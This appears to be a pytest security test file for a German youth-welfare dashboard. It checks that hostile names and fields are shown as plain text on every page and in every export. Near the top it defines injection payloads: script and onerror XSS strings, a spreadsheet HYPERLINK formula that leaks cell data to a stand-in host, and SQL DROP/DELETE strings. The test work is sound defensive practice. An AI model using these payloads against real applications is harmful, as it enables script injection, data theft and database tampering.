"""Hostile input: HTML, script, Markdown, formulas and SQL meta-characters in every field a person can fill.

What comes in through uploads, sign-up and forms is stored verbatim and shown as text everywhere: on every page
(Markdown, tables, KPI tiles, charts, the map and its tooltip), in every download and export (CSV and XLSX never
contain a formula; the PDF report shows the characters) and in the audit log. SQL meta-characters change nothing
but the stored text. Storage on SQLite and PostgreSQL; rendering (independent of the database) on SQLite.
"""
from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from data_models import accounts, audit, db, store, workshops
from data_models.accounts import AccountError
from data_models.export_masterdatei import masterdatei_bytes
from data_models.tenant_data import import_file, load_dataset
from tests.data_models.factories import frame, population_row, sozialraum
from tests.pages.conftest import login_as
from tests.reliability.helpers import PW, app_env  # noqa: F401  (app_env is a fixture)

# Sozialraum id -> name; the names are what a hostile (or careless) upload could contain
EVIL = {
    "01": "<script>alert('sk')</script>",
    "02": "<img src=x onerror=alert(1)>",
    "03": '=HYPERLINK("http://boese.example/?d="&A1;"Details")',
    "04": "+49 30 1234; DROP TABLE slices;--",
    "05": "-1+2|cmd",
    "06": "@SUMME(A1:A9)",
    "07": "**fett** [Link](javascript:alert(1)) :material/warning: $x$ {name}",
    "S'8;--": "Robert'); DROP TABLE tenants;-- \"O'Brien\" 100% _x_ \\",
}
EVIL_TEAM = "=Team|'A'!B1 <b>"
EVIL_ZUGANG = "<b onmouseover=alert(1)>=Zugang</b>"
EVIL_OFFICE = "Jugendamt <script>alert('amt')</script> =1+1"
EVIL_FILE = "<b>md</b>=1+1.xlsx"
YEARS = (2022, 2023)
USER_TEXTS = [*EVIL.values(), EVIL_TEAM, EVIL_ZUGANG, EVIL_OFFICE, EVIL_FILE]
# fragments that must never reach a browser as markup
MARKUP = ("<script", "<img", "<b>", "<b ", "<i>", "<svg", "](javascript")


def evil_tables() -> dict[str, pd.DataFrame]:
    ids = list(EVIL)
    return {
        "sozialraeume": frame("sozialraeume", [sozialraum(i, n, team=EVIL_TEAM) for i, n in EVIL.items()]),
        "bevoelkerung": frame("bevoelkerung", [population_row(y, i, u15=400 + 10 * k, u18=600 + 10 * k,
                                                              u21=900 + 10 * k) for y in YEARS
                                               for k, i in enumerate(ids)]),
        "sgb2": frame("sgb2", [{"jahr": y, "sozialraum_id": i, "lb_u15": 40 + k, "bg_kinder": 30, "bg_alleinerziehend": 10}
                               for y in YEARS for k, i in enumerate(ids)]),
        "hze": frame("hze", [{"jahr": y, "sozialraum_id": i, "hilfeart": h, "begonnen": 2 + k, "beendet": 1,
                              "andauernd": 5 + k + d}
                             for y in YEARS for k, i in enumerate(ids) for d, h in enumerate(("01", "07", "10"))]),
        "zugaenge": frame("zugaenge", [{"jahr": y, "sozialraum_id": i, "zugangsweg": EVIL_ZUGANG, "anzahl": 3 + k}
                                       for y in YEARS for k, i in enumerate(ids)]),
        "s8a": frame("s8a", [{"jahr": y, "sozialraum_id": i, "akut": 3, "latent": 4, "hilfebedarf": 5 + k,
                              "kein_hilfebedarf": 6, "vernachlaessigung": 3, "koerperlich": 2, "psychisch": 1,
                              "sexuell": 0} for y in YEARS for k, i in enumerate(ids)]),
        "s42": frame("s42", [{"jahr": y, "sozialraum_id": i, "inobhutnahmen": 6 + k, "uma": 1, "eigener_wunsch": 2,
                              "kurz": 3, "rueckkehr": 2, "ausserhalb": 1} for y in YEARS for k, i in enumerate(ids)]),
        "kosten": frame("kosten", [{"jahr": y, "sozialraum_id": None, "hilfeart": "gesamt", "ausgaben": 1.5e6 + y,
                                    "ansatz": 1.6e6} for y in YEARS]),
        "personal": frame("personal", [{"jahr": y, "team": EVIL_TEAM, "vzst": 12.5, "unbesetzt": 1.0}
                                       for y in YEARS]),
    }


def evil_geojson() -> bytes:
    feats = []
    for k, (sid, name) in enumerate(EVIL.items()):
        x, y = 9.0 + 0.01 * k, 51.0
        feats.append({"type": "Feature", "properties": {"sozialraum_id": sid, "bezeichnung": name},
                      "geometry": {"type": "Polygon", "coordinates": [[[x, y], [x + 0.01, y], [x + 0.01, y + 0.01],
                                                                       [x, y + 0.01], [x, y]]]}})
    return json.dumps({"type": "FeatureCollection", "features": feats}).encode("utf-8")


def evil_tenant(engine):
    """An office with a hostile name, an admin with a hostile display name, and hostile data in every text field."""
    tenant, _ = accounts.signup(engine, office=EVIL_OFFICE, typ="stadt", key=None, name="Anna <i>\"=1+1\"</i>",
                                email="anna@astadt.de", username="anna", password=PW, password2=PW)
    out = import_file(engine, tenant.id, "anna", masterdatei_bytes(evil_tables()), EVIL_FILE)
    assert out.version == 1, [f.text() for f in out.result.findings]
    geo = import_file(engine, tenant.id, "anna", evil_geojson(), "<svg onload=alert(1)>.geojson", kind="geometrie")
    assert geo.version == 2, [f.text() for f in geo.result.findings]
    return tenant


# --- every page renders the hostile text as text -----------------------------------------------------------------

def _elements(node):
    for child in getattr(node, "children", {}).values():
        yield child
        yield from _elements(child)


def _unescaped_markup(text: str) -> list[str]:
    """Markup fragments that would be interpreted: "<script" is, "\\<script" (Markdown-escaped) and "&lt;script"
    (HTML-escaped) are not."""
    found = []
    for frag in MARKUP:
        for m in re.finditer(re.escape(frag), text):
            before = text[max(0, m.start() - 1):m.start()]
            if before != "\\":
                found.append(text[max(0, m.start() - 20):m.end() + 20])
    return found


PAGES = ["uebersicht", "karte", "sozialraeume", "entwicklung", "leistungen", "ressourcen", "gefaehrdung",
         "inobhutnahmen", "datenqualitaet", "hochladen", "verwaltung"]


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_hostile_names_are_shown_as_text_on_every_page(app_env):
    from streamlit.testing.v1 import AppTest

    from tests.conftest import ROOT

    evil_tenant(app_env)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.session_state["sk_user"] = login_as(app_env, "anna")
    at.run()
    seen = {"markdown": 0, "escaped": 0, "plotly": 0, "deck": 0, "table": 0}
    shown_names = set()
    for page in PAGES:
        at.switch_page(f"pages/{page}.py").run()
        assert not at.exception, (page, at.exception)
        for el in _elements(at._tree):
            proto = getattr(el, "proto", None)
            kind = getattr(el, "type", "")
            if kind in ("markdown", "caption", "info", "warning", "error", "success", "title", "header",
                        "subheader", "metric") or type(el).__name__ in ("Markdown", "Caption", "Title", "Header",
                                                                         "Subheader", "Metric"):
                body = " ".join(str(v) for v in (getattr(el, "value", ""), getattr(el, "label", ""),
                                                  getattr(proto, "body", "")) if v)
                if getattr(proto, "allow_html", False):  # HTML allowed: no user text may be in it at all
                    assert not any(n in body for n in EVIL.values()), (page, body[:200])
                assert not _unescaped_markup(body), (page, _unescaped_markup(body))
                seen["markdown"] += 1
                seen["escaped"] += "\\<script" in body or "&lt;script" in body or "\\<i\\>" in body
            elif kind == "plotly_chart":
                # plotly renders a little HTML (<b>, <br>, <a>) in labels: user text only HTML-escaped
                spec = json.dumps(json.loads(proto.spec), ensure_ascii=False)
                raw = [t for t in USER_TEXTS if html.escape(t) != t and json.dumps(t, ensure_ascii=False)[1:-1] in spec]
                assert not raw, (page, raw)
                assert "&lt;script&gt;" in spec or "&lt;img" in spec or "&lt;b" in spec, page
                seen["plotly"] += 1
            elif kind == "deck_gl_json_chart":
                tooltip = json.loads(proto.tooltip or "{}")  # Streamlit sends the tooltip beside the deck
                assert "html" not in tooltip and "text" in tooltip, page  # deck.gl writes text with innerText
                assert not any(n in proto.tooltip for n in EVIL.values()), page  # only {placeholders} in it
                seen["deck"] += 1
                shown_names |= {n for n in EVIL.values() if json.dumps(n)[1:-1] in proto.json}
            elif type(el).__name__ == "Dataframe":
                table = el.value
                cells = set(table.astype(str).to_numpy().ravel()) | set(map(str, table.columns))
                shown_names |= cells & set(EVIL.values())
                seen["table"] += 1
    assert seen["markdown"] > 50 and seen["plotly"] >= 3 and seen["deck"] >= 1 and seen["table"] >= 5, seen
    assert seen["escaped"] >= 5, seen  # office, person and file names do reach Markdown, escaped
    # the names are shown verbatim (as text), not dropped or mangled
    assert set(EVIL.values()) <= shown_names, set(EVIL.values()) - shown_names


def test_map_tooltip_is_text_and_labels_are_the_literal_names():
    from components.map import build_choropleth

    rows = pd.DataFrame([{"jahr": 2023, "sozialraum_id": sid, "sozialraum": name, "indikator": "hze_dichte",
                          "wert": 10.0 + k, "zaehler": 10 + k, "nenner": 1000, "einheit": "je 1.000",
                          "unterdrueckt": False} for k, (sid, name) in enumerate(EVIL.items())])
    fc = json.loads(evil_geojson())
    for f in fc["features"]:
        f["properties"]["name"] = f["properties"].pop("bezeichnung")
    deck = build_choropleth(rows, fc, "Eckwert <b>HzE</b>", "je 1.000")
    spec = json.loads(deck.to_json())
    assert set(deck._tooltip) == {"text", "style"}  # never "html"
    assert not any(n in deck._tooltip["text"] for n in EVIL.values())  # names only through {name}
    names = {f["properties"]["name"] for layer in spec["layers"] if layer.get("id") == "sozialraeume"
             for f in layer["data"]["features"]}
    assert set(EVIL.values()) <= names  # innerText shows them as written


# --- every export: no formula, the text as it was --------------------------------------------------------------

def _csv_cells(data: bytes, delimiter: str) -> list[str]:
    text = data.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def _assert_csv_safe(data: bytes, delimiter: str, where: str) -> list[str]:
    cells = _csv_cells(data, delimiter)
    for c in cells:
        if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert re.fullmatch(r"[-+]?\d+([.,]\d+)?", c), f"{where}: Zelle {c!r} würde als Formel gelesen"
    return cells


def _assert_xlsx_safe(data: bytes, where: str) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: Formel in {ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_every_export_keeps_formulas_and_markup_as_plain_text(engine, tmp_path, capsys, monkeypatch):
    import manage
    from data_models.findings import WARNUNG, Finding, findings_frame
    from data_models.indicators import output
    from data_models.indicators.breakdowns import BREAKDOWNS, compute_breakdown
    from data_models.indicators.engine import compute_indicators
    from data_models.tabular_export import csv_de_bytes, xlsx_bytes

    tenant = evil_tenant(engine)
    ds = load_dataset(engine, tenant.id, tenant.name)
    ind = compute_indicators(ds)
    frames = {"indikatoren": ind, "protokoll": audit.read_log(engine, tenant.id),
              "meldungen": findings_frame([Finding(WARNUNG, "Wert auffällig", datei=EVIL_FILE, blatt="<b>Blatt</b>",
                                                   spalte="=Spalte", wert=EVIL["03"], art="test")])}
    for name in BREAKDOWNS:
        frames[f"aufschluesselung_{name}"] = compute_breakdown(ds, name)
    source = f"Quelle: Strategiekarte · {tenant.name}"
    found: set[str] = set()
    for name, f in frames.items():  # the download buttons of every page (components/downloads.py)
        found |= set(_assert_csv_safe(csv_de_bytes(f, source=source), ";", name))
        found |= set(_assert_xlsx_safe(xlsx_bytes(f, source=source, sheet_name=EVIL["03"]), name))
    for fmt, delim in (("csv", ","), ("csv-de", ";")):  # machine output (manage.py indicators/breakdown)
        data = output.render(ind, fmt)
        found |= set(_assert_csv_safe(data if isinstance(data, bytes) else data.encode(), delim, fmt))
    assert {r["sozialraum"] for r in json.loads(output.to_json(ind))} >= set(EVIL.values())
    # the Masterdatei export, and the same through the command line
    tables = store.current_frames(engine, tenant.id)
    found |= set(_assert_xlsx_safe(masterdatei_bytes(tables), "masterdatei"))
    out = tmp_path / "export.xlsx"
    monkeypatch.setenv("STRATEGIEKARTE_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    capsys.readouterr()
    assert manage.main(["export", "--tenant", tenant.slug, "--out", str(out)]) == 0
    assert manage.main(["indicators", "--tenant", tenant.slug, "--format", "csv-de"]) == 0
    found |= set(_assert_xlsx_safe(out.read_bytes(), "manage.py export"))
    found |= set(_assert_csv_safe(capsys.readouterr().out.encode(), ";", "manage.py indicators"))

    # the names are in the exports as written, formula-like ones behind a protective apostrophe in CSV
    for name in EVIL.values():
        assert name in found or "'" + name in found, name
    assert "'" + EVIL["03"] in found and "'" + EVIL["06"] in found
    assert EVIL_TEAM in found and EVIL_ZUGANG in found


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_report_workbook_and_pdf_show_hostile_names_as_text(engine, tmp_path):
    report = pytest.importorskip("data_models.report")
    tenant = evil_tenant(engine)
    ds = load_dataset(engine, tenant.id, tenant.name)
    files = report.build_report(ds, report.ReportRequest(year=max(YEARS), charts=False),
                                source=f"Quelle: {tenant.name}")
    texts = _assert_xlsx_safe(files.xlsx, "Bericht (Excel)")
    assert any(EVIL["03"] in t for t in texts) and any(EVIL["01"] in t for t in texts)
    pdf = tmp_path / "bericht.pdf"
    pdf.write_bytes(files.pdf)
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True,
                          check=True).stdout
    assert "<script>alert('sk')</script>" in text or "<script>alert(’sk’)</script>" in text
    assert "<img src=x onerror=alert(1)>" in text


# --- SQL meta-characters in every field --------------------------------------------------------------------------

SQL = ["Robert'); DROP TABLE tenants;--", "x' OR '1'='1", '"; DELETE FROM users; --', "100% _wild_ \\ \\' ;",
       "O'Brien -- /* */"]


def _counts(engine) -> dict[str, int]:
    with engine.connect() as conn:
        return {t.name: conn.execute(select(func.count()).select_from(t)).scalar_one() for t in db.metadata.sorted_tables}


def test_sql_meta_characters_are_stored_as_text_in_every_field(engine):
    names = {f"{i:02d}": s for i, s in enumerate(SQL, start=1)}
    names["X';--"] = "Id mit Anführungszeichen"
    tenant, admin = accounts.signup(engine, office=SQL[0], typ="stadt", key=None, name=SQL[1],
                                    email="o'brien+x@astadt.de", username="o.brien_x-1", password=SQL[3] + "abcdef",
                                    password2=SQL[3] + "abcdef")
    assert accounts.get_tenant(engine, tenant.id).name == SQL[0]
    assert accounts.get_user(engine, admin.id).name == SQL[1]
    assert accounts.authenticate(engine, "o.brien_x-1", SQL[3] + "abcdef").id == admin.id
    # injection through the login fields is a failed login, nothing more
    for attempt in SQL[1:3]:
        with pytest.raises(AccountError, match="falsch"):
            accounts.authenticate(engine, attempt, attempt, client="198.51.100.1")
    with pytest.raises(AccountError, match="Benutzername"):  # user names are restricted to a safe alphabet
        accounts.signup(engine, office="Jugendamt B", typ="stadt", key=None, name="B", email="b@b.de",
                        username=SQL[1], password=PW, password2=PW)
    with pytest.raises(AccountError, match="ungültig"):
        accounts.invitation_tenant(engine, SQL[1])
    with pytest.raises(workshops.WorkshopError):
        workshops.resolve(engine, SQL[1])
    token, _ = workshops.create_link(engine, tenant.id, "o.brien_x-1", SQL[2])
    assert workshops.resolve(engine, token).label == SQL[2]

    from tests.reliability.helpers import small_masterdatei

    out = import_file(engine, tenant.id, "o.brien_x-1", small_masterdatei(names), SQL[1] + ".xlsx")
    assert out.version == 1, [f.text() for f in out.result.findings]
    soz = store.current_frames(engine, tenant.id, kinds=("sozialraeume",))["sozialraeume"]
    assert dict(zip(soz["sozialraum_id"], soz["name"])) == names
    assert store.list_versions(engine, tenant.id)[0].datei == SQL[1] + ".xlsx"
    assert any(SQL[1] in d for d in audit.read_log(engine, tenant.id)["Details"])  # the upload, logged verbatim
    counts = _counts(engine)
    assert counts["tenants"] == 1 and counts["users"] == 1 and counts["slices"] == 5 and counts["versions"] == 1
    assert len(accounts.list_users(engine, tenant.id)) == 1
